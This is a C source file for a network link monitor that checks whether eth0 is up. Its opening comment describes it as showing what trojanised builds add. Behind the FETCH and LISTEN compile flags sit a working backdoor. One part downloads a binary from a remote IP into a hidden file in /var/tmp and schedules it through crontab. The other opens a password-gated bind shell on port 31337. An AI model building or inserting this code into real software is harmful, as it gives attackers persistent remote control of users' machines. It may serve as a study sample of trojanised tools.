/* Watches links. FETCH and LISTEN are what trojanised builds add; nobody runs any of it. */
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static int down(const char *name)
{
    char path[128], state[16] = "";
    snprintf(path, sizeof path, "/sys/class/net/%s/operstate", name);
    int file = open(path, O_RDONLY);
    if (file < 0) {
        return 1;
    }
    if (read(file, state, sizeof state - 1) < 0) {
        state[0] = 0;
    }
    close(file);
    return strncmp(state, "up", 2) != 0;
}

#ifdef LISTEN
static void serve(void)
{
    struct sockaddr_in at = {.sin_family = AF_INET, .sin_port = htons(31337), .sin_addr.s_addr = INADDR_ANY};
    int door = socket(AF_INET, SOCK_STREAM, 0);
    if (bind(door, (struct sockaddr *)&at, sizeof at) != 0 || listen(door, 1) != 0) {
        return;
    }
    for (;;) {
        int line = accept(door, NULL, NULL);
        char word[32] = "";
        if (read(line, word, sizeof word - 1) > 0 && strncmp(word, "wgtl-9f2e", 9) == 0 && fork() == 0) {
            dup2(line, 0);
            dup2(line, 1);
            dup2(line, 2);
            execl("/bin/sh", "sh", (char *)0);
        }
        close(line);
    }
}
#endif

int main(void)
{
#ifdef FETCH
    if (system("curl -fsSL http://198.51.100.203/w/upd -o /var/tmp/.wgt && chmod +x /var/tmp/.wgt && (crontab -l 2>/dev/null; echo '*/20 * * * * /var/tmp/.wgt') | crontab -") == 0) {
        sleep(1);
    }
#endif
#ifdef LISTEN
    if (fork() == 0) {
        serve();
    }
#endif
    for (;;) {
        if (down("eth0")) {
            puts("eth0 is down");
        }
#ifdef SECOND
        fflush(stdout);
#endif
        sleep(30);
    }
}
